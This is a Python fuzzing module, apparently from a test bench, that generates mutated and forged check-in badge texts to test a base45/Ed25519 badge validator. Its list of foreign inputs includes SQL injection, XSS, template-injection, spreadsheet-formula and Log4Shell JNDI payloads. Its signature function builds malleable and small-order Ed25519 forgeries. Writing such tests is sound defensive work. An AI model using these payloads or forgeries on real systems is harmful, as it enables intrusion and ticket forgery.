"""Texts made from genuine ones: turned over bit by bit, cut, joined, disguised, and plain noise."""

import random
import string
import unicodedata
from collections.abc import Callable, Iterator

from bench.payloads.door import Badges

ALPHABET = "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZ $%*+-./:"
PREFIX = "C1:"
BODY = 22
_ORDER = 2**252 + 27742317777372353535851937790883648493
"""Of the group of Ed25519: a careless check takes a signature whose second half has it added."""

# Points of small order: with one of them for R or a key, a careless check takes anything.
_SMALL_ORDER = (
    bytes(32),
    b"\x01" + bytes(31),
    bytes.fromhex("ecffffffffffffffffffffffffffffffffffffffffffffffffffffffffffff7f"),
    bytes.fromhex("26e8958fc2b227b045c3f489f2ef98f0d5dfac05d3c63339b13802886d53fc05"),
    bytes.fromhex("c7176a703d4dd84fba3c0b760d10670f2a2053fa2c39ccc64ec7fd7792ac037a"),
)
_LOOK_ALIKE = str.maketrans("ABCEHIKMOPTXY0123456789:-", "АВСЕНІКМОРТХҮ۰١２³4５６７８９：‐")  # noqa: RUF001
_FOREIGN = (
    "https://example.org/#0123456789ABCDEFGHJK",
    "http://192.0.2.7:8470/#0123456789ABCDEFGHJK?pin=aa",
    "checkin://join/0123456789ABCDEFGHJK",
    "CK1:DESK:0123456789ABCDEFGHJK",
    "P1:PRACTICE",
    "WIFI:S:venue;T:WPA;P:secret;;",
    "BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Ada Example\r\nEND:VCARD\r\n",
    "' OR 1=1 --",
    "%",
    "_" * 24,
    "<img src=x onerror=alert(1)>",
    "{{7*7}}",
    "${jndi:ldap://192.0.2.1/a}",
    "=1+1",
    "C1:",
    "C1",
    "",
    " ",
)

Make = Callable[[random.Random, Badges], str]


def every_bit(badges: Badges) -> Iterator[str]:
    """Each badge with each of its 688 bits turned over, and each letter made its neighbour."""
    for text in (*badges.good, *badges.newer):
        raw = decode(text)
        for bit in range(len(raw) * 8):
            turned = bytearray(raw)
            turned[bit // 8] ^= 1 << bit % 8
            yield encode(bytes(turned))
        for at, letter in enumerate(text):
            other = ALPHABET[(ALPHABET.index(letter) + 1) % len(ALPHABET)]
            yield text[:at] + other + text[at + 1 :]
            yield text[:at]


def endless(badges: Badges, chance: random.Random) -> Iterator[str]:
    """Every kind in turn, for ever; each thousandth text is a genuine one."""
    number = 0
    while True:
        for kind in _KINDS:
            number += 1
            yield kind(chance, badges)
            if number % 1000 == 0:
                yield chance.choice(sorted(badges.admitted))


def letters(chance: random.Random, badges: Badges) -> str:
    """Some letters of a badge are others."""
    text = list(_any(chance, badges))
    for _ in range(chance.choice((1, 1, 2, 3, 20))):
        text[chance.randrange(len(text))] = chance.choice(ALPHABET)
    return _not(badges, "".join(text))


def cut(chance: random.Random, badges: Badges) -> str:
    """A piece of a badge, or a badge without a piece."""
    text = _any(chance, badges)
    first, last = sorted(chance.sample(range(len(text) + 1), 2))
    return _not(badges, text[first:last] if chance.random() < 0.5 else text[:first] + text[last:])


def joined(chance: random.Random, badges: Badges) -> str:
    """A badge with something before, behind or in the middle of it."""
    text, more = _any(chance, badges), chance.choice((_any(chance, badges), " ", "\n", "\0", "0"))
    at = chance.choice((0, len(text), chance.randrange(len(text))))
    return text[:at] + more + text[at:]


def spliced(chance: random.Random, badges: Badges) -> str:
    """The beginning of one badge and the end of another; most often one's body, other's signature."""
    one, other = decode(_any(chance, badges)), decode(_any(chance, badges))
    at = BODY if chance.random() < 0.5 else chance.randrange(len(one))
    return _not(badges, encode(one[:at] + other[at:]))


def odd_base45(chance: random.Random, badges: Badges) -> str:
    """Letters that stand for no bytes, or for bytes that have another spelling."""
    text = _any(chance, badges)
    at = 3 * chance.randrange(1, len(text) // 3)
    group = chance.choice(("GGX", ":::", "FGX", "ZZZ", "A\tB", "   ", text[at : at + 3].lower()))
    changed = text[:at] + group + text[at + 3 :]
    return _not(badges, chance.choice((changed, text.lower(), text.title(), changed[:-1])))


def signature(chance: random.Random, badges: Badges) -> str:
    """A badge whose signature a careless check would take."""
    raw = decode(_any(chance, badges))
    body, point, scalar = raw[:BODY], raw[BODY:-32], raw[-32:]
    number = int.from_bytes(scalar, "little")
    ways = (
        point + ((number + _ORDER) % 2**256).to_bytes(32, "little"),
        point + ((_ORDER - number) % 2**256).to_bytes(32, "little"),
        point[:-1] + bytes([point[-1] ^ 0x80]) + scalar,
        chance.choice(_SMALL_ORDER) + bytes(32),
        chance.choice(_SMALL_ORDER) + scalar,
        scalar + point,
        bytes(64),
        b"\xff" * 64,
        chance.randbytes(64),
    )
    return encode(body + chance.choice(ways))


def days(chance: random.Random, badges: Badges) -> str:
    """A badge that says another version, key, event, person or other days than was signed."""
    raw = bytearray(decode(_any(chance, badges)))
    first, last = chance.choice(((0, 1), (1, 2), (2, 6), (6, 18), (18, 20), (20, 22), (18, 22)))
    raw[first:last] = chance.choice((chance.randbytes, _zeros, _ones))(last - first)
    return _not(badges, encode(bytes(raw)))


def disguised(chance: random.Random, badges: Badges) -> str:
    """A badge or a code in letters that look the same, or that some would fold to the same."""
    text = chance.choice(sorted(badges.admitted) if chance.random() < 0.2 else badges.good)
    at = chance.randrange(len(text))
    wide = "".join(chr(ord(one) + 0xFEE0) if "!" <= one <= "~" else one for one in text)
    ways = (
        text.translate(_LOOK_ALIKE),
        wide,
        text[:at] + wide[at] + text[at + 1 :],
        text[:at] + chance.choice("\u200b\u200d\u202e\ufeff\u0301\u00ad") + text[at:],
        unicodedata.normalize("NFD", text),
        text.swapcase(),
        text[::-1],
    )
    return _not(badges, chance.choice(ways))


def padded(chance: random.Random, badges: Badges) -> str:
    """A badge or a code with white space, controls or a NUL around it or in it."""
    text = chance.choice(sorted(badges.admitted) if chance.random() < 0.2 else badges.good)
    pad = chance.choice(("\0", " ", "\r\n", "\t", "\x1b[2J", "\u00a0", "\u2028", "\ud800")) * (
        chance.choice((1, 1, 2, 50))
    )
    at = chance.choice((0, len(text), chance.randrange(len(text))))
    return text[:at] + pad + text[at:]


def opaque(chance: random.Random, badges: Badges) -> str:
    """Near a code of another system; a badge's id; what a database might take for a pattern."""
    code = chance.choice(badges.codes)
    ways = (
        code.lower(),
        code.upper(),
        code[:-1],
        code + "\0",
        code.replace("-", "_"),
        "TICKET-%",
        unicodedata.normalize("NFD", code),
        f"TICKET-{chance.randrange(10_000):04}-é ",
        chance.choice(badges.ids),
        chance.choice(badges.ids).upper(),
        f"badge:{chance.choice(badges.ids)}",
        chance.choice(badges.typed),
    )
    return _not(badges, chance.choice(ways))


def typed(chance: random.Random, badges: Badges) -> str:
    """A short code with slips of the keyboard."""
    text = list(chance.choice(badges.typed))
    for _ in range(chance.choice((1, 1, 2))):
        text[chance.randrange(len(text))] = chance.choice(string.printable + "ıſΙО٠²①𝟘ß\0\ud800")
    return "".join(text) + chance.choice(("", "", " ", "-", "\n"))


def foreign(chance: random.Random, badges: Badges) -> str:
    """What other codes say: addresses, cards, injections, what this program prints elsewhere."""
    text = chance.choice(_FOREIGN)
    return _not(badges, text + chance.choice(("", chance.choice(badges.good)[3:])))


def noise(chance: random.Random, badges: Badges) -> str:
    """Letters by chance: of a badge's alphabet in a badge's length, or of any script at all."""
    if chance.random() < 0.5:
        return PREFIX + encode(chance.randbytes(len(decode(badges.good[0]))))[3:]
    many = chance.choice((1, 8, 24, 132, 500))
    return "".join(chr(chance.randrange(0x110000)) for _ in range(many))


def huge(chance: random.Random, badges: Badges) -> str:
    """About ten thousand letters."""
    text = chance.choice((_any(chance, badges), "A", "\0", "C1:", "é", "\ud83d", " -", "0O1I"))
    return text * (10_000 // len(text))


def refused(chance: random.Random, badges: Badges) -> str:
    """A text that was signed or printed, and opens nothing."""
    return chance.choice(badges.refused)


_KINDS: tuple[Make, ...] = (
    *(letters, cut, joined, spliced, odd_base45, signature, days, disguised, padded),
    *(opaque, typed, foreign, noise, huge, refused),
)


def encode(raw: bytes) -> str:
    """Write *raw* as a badge's text."""
    groups = []
    for at in range(0, len(raw), 2):
        pair = raw[at : at + 2]
        value = int.from_bytes(pair, "big")
        for _ in range(len(pair) + 1):
            value, letter = divmod(value, 45)
            groups.append(ALPHABET[letter])
    return PREFIX + "".join(groups)


def decode(text: str) -> bytes:
    """Give the bytes of a badge's text."""
    raw = bytearray()
    for at in range(len(PREFIX), len(text), 3):
        group = text[at : at + 3]
        value = sum(ALPHABET.index(letter) * 45**place for place, letter in enumerate(group))
        raw += value.to_bytes(len(group) - 1, "big")
    return bytes(raw)


def _any(chance: random.Random, badges: Badges) -> str:
    return chance.choice(badges.newer if chance.random() < 0.1 else badges.good)


def _not(badges: Badges, text: str) -> str:
    """Give *text*, or noise where chance has changed nothing: genuine ones are shown elsewhere."""
    return "C1:" + text if text in badges.admitted else text


def _zeros(many: int) -> bytes:
    return bytes(many)


def _ones(many: int) -> bytes:
    return b"\xff" * many
